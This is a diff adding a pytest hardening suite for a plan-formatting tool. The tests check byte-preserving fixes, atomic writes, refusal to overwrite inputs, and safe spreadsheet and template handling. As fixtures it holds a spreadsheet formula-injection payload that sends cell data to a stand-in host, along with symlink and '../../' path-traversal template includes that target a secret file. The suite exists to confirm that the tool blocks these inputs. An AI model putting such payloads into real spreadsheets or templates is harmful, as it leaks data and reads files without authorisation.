@@ -1,0 +1,240 @@
+"""Hardening properties that need more than one input file: nothing lost, nothing read that should not be."""
+from __future__ import annotations
+
+import os
+import stat
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from planforge import output
+from planforge.output import OutputError, write_outputs
+
+LINT = Path(__file__).parent / "lint_plans"
+ORG = (LINT / "org.yaml").read_text(encoding="utf-8")
+PAREN_PLAN = (LINT / "halfwidth_parens.yaml").read_text(encoding="utf-8")
+FIXED_BODY = "全年组织集中学习（每月一次）。"
+
+
+def fix_folder(tmp_path: Path, text: str, raw: bytes | None = None) -> Path:
+    (tmp_path / "org.yaml").write_text(ORG, encoding="utf-8")
+    plan = tmp_path / "2024.yaml"
+    plan.write_bytes(raw if raw is not None else text.encode("utf-8"))
+    return plan
+
+
+# --------------------------------------------------------------------------- check --fix keeps what it did not mean to change
+
+
+def test_fix_keeps_bom_crlf_and_every_other_byte(cli, tmp_path):
+    raw = ("\ufeff" + PAREN_PLAN.replace("\n", "\r\n")).encode("utf-8")
+    plan = fix_folder(tmp_path, "", raw)
+    status, _, stderr = cli("check", plan, "--fix")
+    assert status == 0, stderr
+    after = plan.read_bytes()
+    assert after == raw.replace("(每月一次)".encode(), "（每月一次）".encode())
+
+
+def test_fix_keeps_the_mode_and_fixes_a_symlinks_target(cli, tmp_path):
+    real = fix_folder(tmp_path, PAREN_PLAN)
+    os.chmod(real, 0o600)
+    (tmp_path / "plans").mkdir()
+    (tmp_path / "plans" / "org.yaml").write_text(ORG, encoding="utf-8")
+    link = tmp_path / "plans" / "2024.yaml"
+    link.symlink_to(real)
+    status, _, stderr = cli("check", link, "--fix")
+    assert status == 0, stderr
+    assert link.is_symlink() and link.resolve() == real.resolve()
+    assert FIXED_BODY in real.read_text(encoding="utf-8")
+    assert stat.S_IMODE(real.stat().st_mode) == 0o600
+
+
+def test_fix_refuses_to_break_a_hard_link_and_says_so(cli, tmp_path):
+    plan = fix_folder(tmp_path, PAREN_PLAN)
+    other = tmp_path / "copy.yaml.bak"
+    os.link(plan, other)
+    status, _, stderr = cli("check", plan, "--fix")
+    assert status == 2 and "硬链接" in stderr
+    assert plan.read_text(encoding="utf-8") == PAREN_PLAN and os.path.samefile(plan, other)
+
+
+def test_fix_that_would_break_the_plan_is_never_written(cli, tmp_path):
+    """An alias fixed to a name beginning with # would turn the rest of a flow list into a comment."""
+    plan = fix_folder(tmp_path, "year: 2024\nissuer: 测试县教育局\nsections:\n  - title: 甲\n    tasks:\n"
+                                "      - title: 乙\n        departments: [办公室, 财建科]\n")
+    (tmp_path / "org.yaml").write_text("issuer: 测试县教育局\ndepartments:\n  - name: '#办公室'\n    aliases: [办公室]\n"
+                                       "  - name: 财建科\n", encoding="utf-8")
+    before = plan.read_bytes()
+    status, _, stderr = cli("check", plan, "--fix")
+    assert status == 2 and "未改动文件" in stderr
+    assert plan.read_bytes() == before
+
+
+# --------------------------------------------------------------------------- never over a source, all or none
+
+
+def test_outputs_are_written_as_a_set_or_not_at_all(tmp_path, monkeypatch):
+    first, second = tmp_path / "a.yaml", tmp_path / "org.yaml"
+    first.write_text("old a", encoding="utf-8")
+    second.write_text("old org", encoding="utf-8")
+    real_replace = os.replace
+
+    def failing(src, dst):
+        if Path(dst).name == "org.yaml":
+            raise PermissionError(13, "Permission denied")
+        real_replace(src, dst)
+
+    monkeypatch.setattr(output.os, "replace", failing)
+    with pytest.raises(OutputError):
+        write_outputs([(first, "new a"), (second, "new org")])
+    monkeypatch.setattr(output.os, "replace", real_replace)
+    assert first.read_text(encoding="utf-8") == "old a" and second.read_text(encoding="utf-8") == "old org"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.yaml", "org.yaml"], "no temporaries left"
+
+
+def test_output_through_a_symlink_to_a_source_is_refused(cli, tmp_path):
+    plan = tmp_path / "2024.yaml"
+    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n", encoding="utf-8")
+    (tmp_path / "org.yaml").write_text("issuer: 甲局\n", encoding="utf-8")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "t.xlsx").symlink_to(tmp_path / "org.yaml")
+    before = (tmp_path / "org.yaml").read_bytes()
+    status, _, stderr = cli("tasks", plan, "-o", out / "t.xlsx")
+    assert status == 2 and "组织设置文件" in stderr
+    assert (tmp_path / "org.yaml").read_bytes() == before
+
+
+@pytest.mark.parametrize("command", ["render", "tasks"])
+def test_two_plans_with_one_output_name_are_refused(cli, tmp_path, command):
+    for folder in ("a", "b"):
+        (tmp_path / folder).mkdir()
+        (tmp_path / folder / "2024.yaml").write_text(f"year: 2024\nissuer: {folder}局\nsections:\n  - title: 甲\n",
+                                                     encoding="utf-8")
+    out = tmp_path / "build"
+    status, _, stderr = cli(command, tmp_path / "a" / "2024.yaml", tmp_path / "b" / "2024.yaml", "-o", out)
+    assert status == 2 and "[PF203]" in stderr
+    assert not out.exists()
+
+
+@pytest.mark.parametrize("command", ["check", "render", "tasks"])
+def test_an_empty_folder_is_not_a_success(cli, tmp_path, command):
+    status, _, stderr = cli(command, tmp_path)
+    assert status == 2 and "[PF005]" in stderr
+
+
+def test_import_never_writes_over_its_input(cli, tmp_path):
+    source = tmp_path / "2023.txt"
+    source.write_text("示例县教育局2023年工作要点\n一、加强党的建设\n1.抓好理论学习。\n", encoding="utf-8")
+    before = source.read_bytes()
+    status, _, stderr = cli("import", source, "-o", source, "--force")
+    assert status == 2 and "[PF202]" in stderr
+    assert source.read_bytes() == before
+
+
+def test_stale_temporaries_of_a_killed_run_are_removed(cli, tmp_path):
+    plan = tmp_path / "2024.yaml"
+    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n", encoding="utf-8")
+    out = tmp_path / "build"
+    out.mkdir()
+    dead = out / ".2024.md.999999999.abcdef.tmp"  # no process has this id
+    dead.write_text("half", encoding="utf-8")
+    status, _, _ = cli("render", plan, "-o", out, "--to", "md")
+    assert status == 0 and not dead.exists() and (out / "2024.md").exists()
+
+
+# --------------------------------------------------------------------------- tasks: text stays text
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
+
+
+def test_formula_like_titles_stay_text(cli, tmp_path):
+    from openpyxl import load_workbook
+
+    plan = tmp_path / "2024.yaml"
+    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\n    tasks:\n"
+                    f"      - title: '{FORMULA}'\n        body: '@SUM(1+1)'\n        departments: [办公室]\n",
+                    encoding="utf-8")
+    assert cli("tasks", plan, "-o", tmp_path / "t.xlsx")[0] == 0
+    sheet = load_workbook(tmp_path / "t.xlsx").active
+    title, body = sheet.cell(2, 2), sheet.cell(2, 3)
+    assert (title.value, title.data_type) == (FORMULA, "s")
+    assert (body.value, body.data_type) == ("@SUM(1+1)", "s")
+    with zipfile.ZipFile(tmp_path / "t.xlsx") as package:
+        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
+    assert cli("tasks", plan, "-o", tmp_path / "t.csv")[0] == 0
+    rows = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert rows[1].split(",")[1].startswith("\"'=HYPERLINK") and ",'@SUM(1+1)," in rows[1]
+
+
+# --------------------------------------------------------------------------- templates stay inside their folders
+
+
+def plan_with_templates(tmp_path: Path) -> tuple[Path, Path]:
+    plans = tmp_path / "plans"
+    (plans / "templates" / "text").mkdir(parents=True)
+    plan = plans / "2024.yaml"
+    plan.write_text("year: 2024\nissuer: 甲局\nsections:\n  - title: 甲\nnotice:\n  doc_number: 甲发〔2024〕1号\n"
+                    "  recipients: 各学校：\n  date: 2024-02-20\n", encoding="utf-8")
+    secret = tmp_path / "secret.txt"
+    secret.write_text("SECRET-DO-NOT-READ", encoding="utf-8")
+    return plan, secret
+
+
+def test_a_template_linked_outside_is_not_read(cli, tmp_path):
+    plan, secret = plan_with_templates(tmp_path)
+    (plan.parent / "templates" / "text" / "notice_body.j2").symlink_to(secret)
+    status, stdout, stderr = cli("render", plan, "-o", tmp_path / "out", "--to", "notice")
+    assert status == 2 and "[PF152]" in stderr and "SECRET" not in stdout + stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_template_folder_linked_outside_and_dotdot_includes_are_not_read(cli, tmp_path):
+    plan, secret = plan_with_templates(tmp_path)
+    (plan.parent / "templates" / "outside").symlink_to(tmp_path, target_is_directory=True)
+    body = plan.parent / "templates" / "text" / "notice_body.j2"
+    for include in ("outside/secret.txt", "../../secret.txt"):
+        body.write_text(f"{{% include '{include}' %}}", encoding="utf-8")
+        status, stdout, stderr = cli("render", plan, "-o", tmp_path / "out", "--to", "notice")
+        assert status == 2 and "[PF152]" in stderr and "SECRET" not in stdout + stderr, stderr
+    assert not (tmp_path / "out").exists()
+
+
+# --------------------------------------------------------------------------- verify fails what Word refuses
+
+
+def _rendered_docx(cli, tmp_path: Path) -> Path:
+    plan = tmp_path / "2024.yaml"
+    plan.write_text("year: 2024\nissuer: 示例县教育局\nsections:\n  - title: 加强党的建设\n    tasks:\n"
+                    "      - title: 抓好理论学习\n        body: 全年组织集中学习。\n", encoding="utf-8")
+    assert cli("render", plan, "-o", tmp_path, "--to", "docx")[0] == 0
+    return tmp_path / "2024.docx"
+
+
+def _patched(docx: Path, part: str, old: bytes, new: bytes) -> Path:
+    out = docx.with_name(f"patched-{part.replace('/', '_')}.docx")
+    with zipfile.ZipFile(docx) as src, zipfile.ZipFile(out, "w") as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == part:
+                assert old in data, (part, old)
+                data = data.replace(old, new, 1)
+            dst.writestr(item, data)
+    return out
+
+
+def test_verify_fails_a_docx_whose_parts_do_not_parse(cli, tmp_path):
+    docx = _rendered_docx(cli, tmp_path)
+    broken = _patched(docx, "docProps/core.xml", b"<dc:title>", b"<dc:title>\x01")
+    status, stdout, _ = cli("verify", broken, "--no-pages")
+    assert status == 1 and "✗" in stdout and "docProps/core.xml" in stdout and "不符合" in stdout
+
+
+@pytest.mark.parametrize("old,new", [(b'w:w="11906"', b'w:w="abc"'), (b'w:w="11906"', b'w:w="11906.5"'),
+                                     (b'w:top="', b'w:top="x')])
+def test_verify_reports_malformed_attributes(cli, tmp_path, old, new):
+    docx = _rendered_docx(cli, tmp_path)
+    status, _, stderr = cli("verify", _patched(docx, "word/document.xml", old, new), "--no-pages")
+    assert status == 2 and "[PF170]" in stderr and "不合法" in stderr
